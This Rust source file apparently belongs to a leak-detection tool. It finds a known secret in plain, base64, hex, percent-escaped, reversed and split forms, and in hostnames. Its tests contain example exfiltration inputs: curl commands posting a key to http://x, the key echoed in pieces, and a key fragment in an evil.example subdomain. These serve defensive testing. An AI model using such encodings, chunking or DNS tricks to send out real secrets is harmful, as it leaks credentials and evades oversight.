//! Finds one known value in texts, in any known form, even if it is split over several texts.

use std::borrow::Cow;

use memchr::memmem;
use regex::bytes::Regex;

use super::secret::in_forms;
use super::{Mask, alternation};

/// Minimum length of a recognised piece of the value, in bytes. Shorter pieces occur by chance.
const MIN_PIECE_BYTES: usize = 8;

/// Finds a value in plain text, in base64, hexadecimal digits and escapes, reversed, and in pieces.
#[derive(Debug)]
pub struct Finder {
    mask: Mask,
    /// Forms that are searched for in pieces, each with an expression that finds any of its pieces.
    forms: Vec<(Vec<u8>, Option<Regex>)>,
}

impl Finder {
    /// Creates a finder of `value`, which must be random.
    pub fn new(value: &str) -> Self {
        let values = [value.to_owned(), value.chars().rev().collect()];
        let forms = values.iter().flat_map(|value| in_pieces(value)).map(|form| {
            let pieces = alternation(form.windows(MIN_PIECE_BYTES));
            (form, pieces)
        });
        Self { mask: Mask::default().with(in_forms(&values)), forms: forms.collect() }
    }

    /// Returns `true` if `text` contains the value.
    pub fn is_in(&self, text: &str) -> bool {
        matches!(self.mask.without_values(text), Cow::Owned(_))
    }

    /// Returns `true` if `host` contains the value, or a piece of it. Case is ignored, because hosts do not distinguish
    /// it.
    pub fn is_in_host(&self, host: &str) -> bool {
        let host = host.to_ascii_lowercase();
        let is_piece = |form: &[u8]| {
            let form = form.to_ascii_lowercase();
            form.windows(MIN_PIECE_BYTES).any(|piece| memmem::find(host.as_bytes(), piece).is_some())
        };
        self.forms.iter().any(|(form, _)| is_piece(form))
    }

    /// Returns `true` if pieces in `texts` make up the whole value.
    pub fn is_in_pieces_of<'t>(&self, texts: &(impl Iterator<Item = &'t str> + Clone)) -> bool {
        self.forms.iter().any(|(form, pieces)| {
            let Some(pieces) = pieces else { return false };
            let mut is_found = vec![false; form.len()];
            for text in texts.clone().filter(|text| pieces.is_match(text.as_bytes())) {
                for (at, piece) in form.windows(MIN_PIECE_BYTES).enumerate() {
                    if memmem::find(text.as_bytes(), piece).is_some() {
                        is_found[at..at + MIN_PIECE_BYTES].fill(true);
                    }
                }
            }
            is_found.iter().all(|found| *found)
        })
    }
}

/// Returns the forms of a value that are searched for in pieces.
fn in_pieces(value: &str) -> Vec<Vec<u8>> {
    use base64::Engine;
    use base64::prelude::BASE64_STANDARD_NO_PAD;
    let forms = [value.to_owned(), BASE64_STANDARD_NO_PAD.encode(value), model::text::hex(value.as_bytes())];
    forms.into_iter().map(String::into_bytes).filter(|form| form.len() >= MIN_PIECE_BYTES).collect()
}

#[cfg(test)]
mod tests {
    use base64::Engine;
    use base64::prelude::BASE64_STANDARD;

    use super::*;

    const VALUE: &str = "Zk3vQ8xY1mB6rT0pWc7dNf2gHs9jLa4eUi5oXbqE";

    #[test]
    fn every_form_of_the_value_is_found() {
        let finder = Finder::new(VALUE);
        let hex: String = VALUE.bytes().map(|byte| format!("{byte:02x}")).collect();
        let percent: String = VALUE.bytes().map(|byte| format!("%{byte:02X}")).collect();
        let reversed: String = VALUE.chars().rev().collect();
        let file = format!("# keys\nSTRIPE_KEY={VALUE}\nOTHER=1\n");
        for text in [
            VALUE.to_owned(),
            BASE64_STANDARD.encode(VALUE),
            BASE64_STANDARD.encode(&file),
            hex.to_uppercase(),
            percent,
            reversed.clone(),
            BASE64_STANDARD.encode(&reversed),
        ] {
            assert!(finder.is_in(&format!("curl -d '{text}' http://x")), "{text}");
        }
        assert!(!finder.is_in(&VALUE.to_lowercase()));
        assert!(!finder.is_in("curl http://x"));
    }

    #[test]
    fn pieces_count_together() {
        let finder = Finder::new(VALUE);
        let calls: Vec<String> =
            VALUE.as_bytes().chunks(10).map(|part| format!("echo {}", String::from_utf8_lossy(part))).collect();
        let all = || calls.iter().map(String::as_str);
        assert!(finder.is_in_pieces_of(&all()));
        assert!(finder.is_in_pieces_of(&all().rev()));
        assert!(!finder.is_in_pieces_of(&all().skip(1)));
        let encoded = BASE64_STANDARD.encode(VALUE);
        let (one, other) = encoded.split_at(25);
        assert!(finder.is_in_pieces_of(&[one, other].into_iter()));
    }

    #[test]
    fn a_host_may_carry_a_piece_in_small_letters() {
        let finder = Finder::new(VALUE);
        assert!(finder.is_in_host(&format!("{}.evil.example", VALUE[..20].to_lowercase())));
        assert!(!finder.is_in_host("registry.example"));
    }
}
